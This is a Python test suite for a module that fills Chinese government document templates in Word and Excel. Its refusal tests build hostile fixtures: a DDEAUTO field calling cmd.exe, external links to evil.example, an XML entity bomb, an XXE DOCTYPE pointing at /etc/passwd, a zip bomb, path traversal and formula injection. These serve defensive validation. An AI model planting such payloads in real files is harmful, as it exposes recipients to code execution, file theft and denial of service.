"""Templates are filled in and do nothing else: what is printed is what the values say, and a file that could do more is refused with what it is.

FX-27-2 (the sum in the asset summary), SC-14-3 (the sheet with every office's opinion). What was filled in is read back by other libraries than ours.
"""

import re
import zipfile
from collections.abc import Callable, Iterator
from datetime import date
from decimal import Decimal
from io import BytesIO
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import docx
import openpyxl
import pytest

from app import printing
from app.domain.templates import Contents, Stamp, Template, TemplateRefused, Writing, written

ROOT = Path(__file__).parents[3]
ZONE = ZoneInfo("Asia/Shanghai")
STAMP = Stamp("资产汇总表", "2026-0007", 2, date(2026, 3, 10))
MONEY = {"type": "number", "x-format": "money"}


def word(*paragraphs: str, rows: tuple[tuple[str, ...], ...] = (), title: str = "资产汇总表") -> bytes:
    made = docx.Document()
    made.core_properties.title = title
    for text in paragraphs:
        made.add_paragraph(text)
    if rows:
        table = made.add_table(0, len(rows[0]))
        for row in rows:
            for cell, text in zip(table.add_row().cells, row, strict=True):
                cell.text = text
    return saved(made)


def sheet(*rows: tuple[Any, ...], merged: str = "") -> bytes:
    made = openpyxl.Workbook()
    for row in rows:
        made.active.append(row)
    if merged:
        made.active.merge_cells(merged)
    return saved(made)


def saved(made: Any) -> bytes:
    out = BytesIO()
    made.save(out)
    return out.getvalue()


def fill(source: bytes, ending: str = ".docx", schemas: dict[str, Any] | None = None, **values: Any) -> bytes:
    return printing.filled(printing.read("t", ending, source), Contents(values, schemas or {}, STAMP, ZONE))


def said(content: bytes) -> list[str]:
    return [paragraph.text for paragraph in docx.Document(BytesIO(content)).paragraphs]


def table(content: bytes) -> list[list[str]]:
    return [[cell.text for cell in row.cells] for row in docx.Document(BytesIO(content)).tables[0].rows]


def cells(content: bytes) -> list[tuple[Any, ...]]:
    return list(openpyxl.load_workbook(BytesIO(content)).active.iter_rows(values_only=True))


def refused(source: bytes, ending: str = ".docx") -> str:
    with pytest.raises(TemplateRefused) as caught:
        printing.read("t", ending, source)
    return str(caught.value)


# ---------------------------------------------------------------------- filling in


def test_values_stand_where_their_names_stood() -> None:
    office = {"key": "7", "name": "区数据局"}
    content = fill(
        word("项目：{{ projectName }}，由{{office.name}}（{{office}}）办理", "{{classified}}"),
        projectName="云平台",
        office=office,
        classified=False,
    )
    assert said(content) == ["项目：云平台，由区数据局（区数据局）办理", "否"]


def test_a_placeholder_that_word_has_cut_into_runs_is_one_and_looks_as_where_it_begins() -> None:
    made = docx.Document()
    paragraph = made.add_paragraph("合计")
    for text, bold in (("{{to", True), ("tal", False), ("Amount}}", False), (" 元", False)):
        paragraph.add_run(text).bold = bold
    content = fill(saved(made), schemas={"totalAmount": MONEY}, totalAmount=Decimal("600000"))
    runs = docx.Document(BytesIO(content)).paragraphs[0].runs
    assert [(run.text, run.bold) for run in runs if run.text] == [("合计", None), ("600,000.00", True), (" 元", False)]


def test_a_row_is_repeated_for_each_of_a_list_and_the_sum_stands_below() -> None:
    """FX-27-2: 10、20、30 万元的三行资产,汇总表合计 60 万元。"""
    rows = (("序号", "名称", "原值"), ("{{assets.序号}}", "{{assets.name}}", "{{assets.value:金额}}"), ("合计", "", "{{total:万元}} 万元"))
    assets = [{"name": name, "value": Decimal(value)} for name, value in (("服务器", 100_000), ("软件", 200_000), ("网络", 300_000))]
    assert table(fill(word(rows=rows), assets=assets, total=Decimal(600_000))) == [
        ["序号", "名称", "原值"], ["1", "服务器", "100,000.00"], ["2", "软件", "200,000.00"], ["3", "网络", "300,000.00"], ["合计", "", "60 万元"],
    ]  # fmt: skip


def test_an_empty_list_leaves_one_empty_row_and_a_list_outside_a_table_is_told_in_a_line() -> None:
    rows = (("单位", "意见"), ("{{opinions.office}}", "{{opinions.opinion}}"))
    assert table(fill(word(rows=rows), opinions=[])) == [["单位", "意见"], ["", ""]]
    assert table(fill(word(rows=rows), opinions=None)) == [["单位", "意见"], ["", ""]]
    assert said(fill(word("意见：{{opinions.opinion}}"), opinions=[{"opinion": "同意"}, {"opinion": "修改后同意"}])) == [
        "意见：同意、修改后同意"
    ]


def test_headers_footers_and_text_boxes_are_filled_in_too() -> None:
    made = docx.Document()
    made.sections[0].header.paragraphs[0].text = "编号 {{document.number}} 第 {{document.version}} 版"
    made.sections[0].footer.paragraphs[0].text = "{{document.name}} {{document.date}}"
    section = docx.Document(BytesIO(fill(saved(made)))).sections[0]
    assert section.header.paragraphs[0].text == "编号 2026-0007 第 2 版"
    assert section.footer.paragraphs[0].text == "资产汇总表 2026年3月10日"


def test_what_somebody_has_typed_is_text_whatever_it_looks_like() -> None:
    hostile = "{{secret}} <w:p/> & {% x %}\n第二行\x00\x0b"
    content = fill(word("说明：{{note}}", "{{secret}}"), note=hostile, secret="不外传")
    first, second = said(content)
    assert first == "说明：{{secret}} <w:p/> & {% x %}\n第二行"
    assert second == "不外传"
    row = cells(
        fill(
            sheet(
                ("{{note}}", "{{sum}}"),
            ),
            ".xlsx",
            note='=HYPERLINK("http://x")',
            sum="+1+1",
        )
    )[0]
    assert row == ('=HYPERLINK("http://x")', "+1+1")
    with zipfile.ZipFile(
        BytesIO(
            fill(
                sheet(
                    ("{{note}}",),
                ),
                ".xlsx",
                note="=1+1",
            )
        )
    ) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_a_sheet_keeps_numbers_as_numbers_and_moves_down_what_stands_below() -> None:
    source = sheet(
        ("计划", None, None),
        ("{{items.序号}}", "{{items.name}}", "{{items.amount:金额}}"),
        ("合计", "{{year}}年", "{{total:金额}}"),
        merged="A1:C1",
    )
    items = [{"name": "甲", "amount": Decimal("10.50")}, {"name": "乙", "amount": Decimal("20")}]
    content = fill(source, ".xlsx", items=items, year=2026, total=Decimal("30.50"))
    assert cells(content) == [("计划", None, None), (1, "甲", 10.5), (2, "乙", 20), ("合计", "2026年", 30.5)]
    active = openpyxl.load_workbook(BytesIO(content)).active
    assert [str(area) for area in active.merged_cells.ranges] == ["A1:C1"]
    assert active["C3"].number_format == "#,##0.00"


def test_merged_cells_below_a_repeated_row_go_down_with_it() -> None:
    source = sheet(("{{items.name}}",), ("签字",), merged="A2:C2")
    content = fill(source, ".xlsx", items=[{"name": name} for name in "甲乙丙"])
    active = openpyxl.load_workbook(BytesIO(content)).active
    assert [str(area) for area in active.merged_cells.ranges] == ["A4:C4"]
    assert active["A4"].value == "签字"


@pytest.mark.parametrize(
    ("value", "schema", "how", "text"),
    [
        (None, {}, None, ""), (True, {}, None, "是"), (Decimal("1234567.8"), MONEY, None, "1,234,567.80"), (Decimal("12.50"), {}, None, "12.5"),
        (Decimal("100"), {}, None, "100"), (6_947_911, {}, Writing.WAN, "694.79"), ("2026-03-10", {}, None, "2026年3月10日"), ("2026-02-30", {}, None, "2026-02-30"),
        ("2026-03-09T20:00:00Z", {}, None, "2026年3月10日"), ("2026-08-29T00:30:00@Asia/Shanghai", {}, None, "2026年8月29日"),
        ("2026-01-01T00:00:00@No/Where", {}, None, "2026-01-01T00:00:00@No/Where"), ("month", {"x-labels": {"month": "月"}}, None, "月"),
        (["甲", None, {"key": "1", "name": "乙"}], {}, None, "甲、乙"), ({"a": 1}, {}, None, ""), ("2026-0001", {}, None, "2026-0001"),
    ],
)  # fmt: skip
def test_how_a_value_is_written_on_paper(value: Any, schema: dict[str, Any], how: Writing | None, text: str) -> None:
    assert written(value, schema, how, ZONE) == text


def test_equal_values_give_equal_bytes_and_nobody_who_made_the_template_is_named() -> None:
    source = word("{{a}}")
    assert fill(source, a="x") == fill(source, a="x") != fill(source, a="y")
    assert fill(sheet(("{{a}}",)), ".xlsx", a="x") == fill(sheet(("{{a}}",)), ".xlsx", a="x")
    made = docx.Document()
    made.core_properties.author = "某人"
    properties = docx.Document(BytesIO(fill(saved(made)))).core_properties
    assert (properties.author, properties.last_modified_by, properties.title) == ("", "", "资产汇总表")


def test_the_template_is_called_what_its_properties_say_else_by_its_id() -> None:
    assert printing.read("t", ".docx", word("x")).title == "资产汇总表"
    assert printing.read("t", ".docx", word("x", title="")).title == "t"


def test_what_a_template_uses() -> None:
    found = printing.read("t", ".docx", word("{{a}} {{project.totalAmount}} {{document.number}}", rows=(("{{b.序号}}", "{{b.x}}"),)))
    assert found.used == {"a": frozenset(), "project": frozenset({"totalAmount"}), "b": frozenset({"x"})}


# ---------------------------------------------------------------------- refused


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("{{ 1 + 1 }}", "不是占位符"), ("{{ a() }}", "不是占位符"), ("{{ a.__class__ }}{{ [x for x in y] }}", "不是占位符"), ("{% for x in y %}", "{%"), ("{# x #}", "{#"),
        ("${x}", "${"), ("{{a", "{{"), ("a}}", "}}"), ("{{}}", "不是占位符"), ("{{a:大写}}", "大写"), ("{{document.secret}}", "打印件自己的名称只有"),
        ("{{document}}", "打印件自己的名称只有"),
    ],
)  # fmt: skip
def test_what_is_no_placeholder_is_refused_by_name(text: str, why: str) -> None:
    assert why in refused(word(text))
    assert why in refused(sheet((text,)), ".xlsx")
    assert "A1" in refused(sheet((text,)), ".xlsx")


def repacked(source: bytes, change: Callable[[str, bytes], bytes] = lambda name, content: content, **more: bytes) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(source)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            new.writestr(info.filename, change(info.filename, old.read(info)))
        for name, content in more.items():
            new.writestr(name.replace("__", "/").replace("_DOT_", "."), content)
    return out.getvalue()


def within(part: str, old: bytes, new: bytes) -> Callable[[str, bytes], bytes]:
    def change(name: str, content: bytes) -> bytes:
        assert name != part or old in content
        return content.replace(old, new, 1) if name == part else content

    return change


_KIND = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATION = b'<Relationship Id="rX" Type="' + _KIND + b'/%b" Target="http://evil.example/%b" TargetMode="External"/></Relationships>'


def fields(*codes: str) -> bytes:
    """Paragraphs with a field each, its code in two pieces as Word writes it."""
    found = b""
    for code in codes:
        half = len(code) // 2
        pieces = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in (code[:half], code[half:]))
        marks = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
        found += f"<w:p>{marks[0]}{pieces}{marks[1]}</w:p>".encode()
    return found


def hostile() -> Iterator[tuple[str, bytes, str, str]]:
    """(what, file, ending, what has to be told)"""
    plain, book = word("x"), sheet(("x",))
    rels, document = "word/_rels/document.xml.rels", "word/document.xml"
    yield "macro", repacked(plain, word__vbaProject_DOT_bin=b"x"), ".docx", "宏"
    yield (
        "macro type",
        repacked(plain, within("[Content_Types].xml", b"document.main+xml", b"document.macroEnabled.main+xml")),
        ".docx",
        "宏",
    )
    yield "program", repacked(plain, word__run_DOT_exe=b"x"), ".docx", "程序"
    yield "object", repacked(plain, word__embeddings__o_DOT_bin=b"x"), ".docx", "对象"
    yield "control", repacked(plain, word__activeX__a_DOT_xml=b"<a/>"), ".docx", "控件"
    yield "unknown part", repacked(plain, word__x_DOT_dat=b"x"), ".docx", "不认识的部分"
    for kind in (b"image", b"attachedTemplate", b"hyperlink", b"oleObject", b"frame"):
        yield (
            f"external {kind.decode()}",
            repacked(plain, within(rels, b"</Relationships>", RELATION % (kind, kind))),
            ".docx",
            "evil.example",
        )
    for code in (
        "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",
        "INCLUDETEXT http://x",
        "INCLUDEPICTURE x",
        "MACROBUTTON x y",
        "HYPERLINK x",
        "IF 1=1 {DDE}",
    ):
        yield code, repacked(plain, within(document, b"<w:sectPr", fields(code) + b"<w:sectPr")), ".docx", code.split()[0]
    simple = b'<w:p><w:fldSimple w:instr=" dde x y "/></w:p>'
    yield "simple field", repacked(plain, within(document, b"<w:sectPr", simple + b"<w:sectPr")), ".docx", "DDE"
    bomb = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
    yield "entities", repacked(plain, word__extra_DOT_xml=bomb), ".docx", "DOCTYPE"
    utf16 = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'.encode("utf-16")
    yield "hidden doctype", repacked(plain, word__extra_DOT_xml=utf16), ".docx", "DOCTYPE"
    yield "no xml", repacked(plain, word__extra_DOT_xml=b"<a>"), ".docx", "不是正确的 XML"
    yield "zip bomb", repacked(plain, word__media__x_DOT_png=b"\0" * 9_000_000), ".docx", "解开后过大"
    yield "members", repacked(plain, **{f"word__media__{number}_DOT_png": b"x" for number in range(600)}), ".docx", "解开后过大"
    yield "path", repacked(plain, **{"..__..__x_DOT_xml": b"<a/>"}), ".docx", "不正常"
    yield "not packed", b"x" * 100, ".docx", "已损坏"
    yield "cut off", plain[:-100], ".docx", "已损坏"
    yield "renamed", book, ".docx", "不是 docx"
    yield "too large", b"x" * 5_000_001, ".docx", "MB"
    yield "formula", sheet(("=SUM(B1:B2)",)), ".xlsx", "公式"
    yield "external data", repacked(book, xl__connections_DOT_xml=b"<a/>"), ".xlsx", "外部数据"
    yield "external book", repacked(book, xl__externalLinks__externalLink1_DOT_xml=b"<a/>"), ".xlsx", "外部数据"
    yield "picture", repacked(book, xl__media__image1_DOT_png=b"x"), ".xlsx", "图片"


@pytest.mark.parametrize(("source", "ending", "why"), [pytest.param(*rest, id=what) for what, *rest in hostile()])
def test_a_file_that_could_do_more_than_be_filled_in_is_refused_with_what_it_is(source: bytes, ending: str, why: str) -> None:
    assert why.lower() in refused(source, ending).lower()


def test_a_placeholder_where_none_is_filled_in_is_told() -> None:
    made = openpyxl.Workbook()
    made.active.oddFooter.center.text = "编号 {{document.number}}"
    assert "页眉页脚" in refused(saved(made), ".xlsx")


def test_paragraphs_that_word_has_numbered_keep_their_numbers_to_themselves() -> None:
    name = b'xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" w14:paraId="11111111"'
    source = repacked(word(rows=(("{{a.x}}",),)), within("word/document.xml", b"<w:tr>", b"<w:tr " + name + b">"))
    with zipfile.ZipFile(BytesIO(fill(source, a=[{"x": 1}, {"x": 2}]))) as archive:
        assert archive.read("word/document.xml").count(b"paraId") == 1


def test_page_numbers_stay_fields() -> None:
    source = repacked(word("x"), within("word/document.xml", b"<w:sectPr", fields(" PAGE ", "NUMPAGES \\* MERGEFORMAT") + b"<w:sectPr"))
    with zipfile.ZipFile(BytesIO(fill(source))) as archive:
        assert archive.read("word/document.xml").count(b"instrText>") == 8


def test_everything_that_is_wrong_is_told_at_once() -> None:
    told = refused(word("{{a b}}", "{{c()}}"))
    assert "{{a b}}" in told
    assert "{{c()}}" in told


def test_more_rows_than_a_paper_holds_are_refused() -> None:
    with pytest.raises(TemplateRefused, match="5000"):
        fill(word(rows=(("{{a.x}}",),)), a=[{"x": 1}] * 5001)


# ---------------------------------------------------------------------- the shipped ones


def shipped() -> list[Path]:
    return sorted(path for path in (ROOT / "documents").rglob("*") if path.is_file())


@pytest.mark.parametrize("path", shipped(), ids=lambda path: path.name)
def test_a_shipped_template_is_one_with_a_name_and_no_machine_words(path: Path) -> None:
    found: Template = printing.read(path.stem, path.suffix, path.read_bytes())
    assert re.fullmatch(r"[一-鿿]+", found.title), "printed documents are called by it"
    assert found.placeholders
    assert not [one.text for one in found.placeholders if one.path[-1] in ("key", "projectKey", "sha256")]


def test_an_office_finds_its_typefaces() -> None:
    """Body in 仿宋, headings in 黑体 or 宋体, every table with its lines, pages numbered."""
    for path in shipped():
        with zipfile.ZipFile(path) as archive:
            text = "".join(archive.read(name).decode() for name in archive.namelist() if name.endswith(".xml"))
        assert "仿宋" in text, path.name
        assert "黑体" in text or "宋体" in text, path.name
        if path.suffix == ".docx":
            assert " PAGE " in text, path.name
            assert text.count("<w:tbl>") == text.count('w:tblStyle w:val="TableGrid"'), path.name
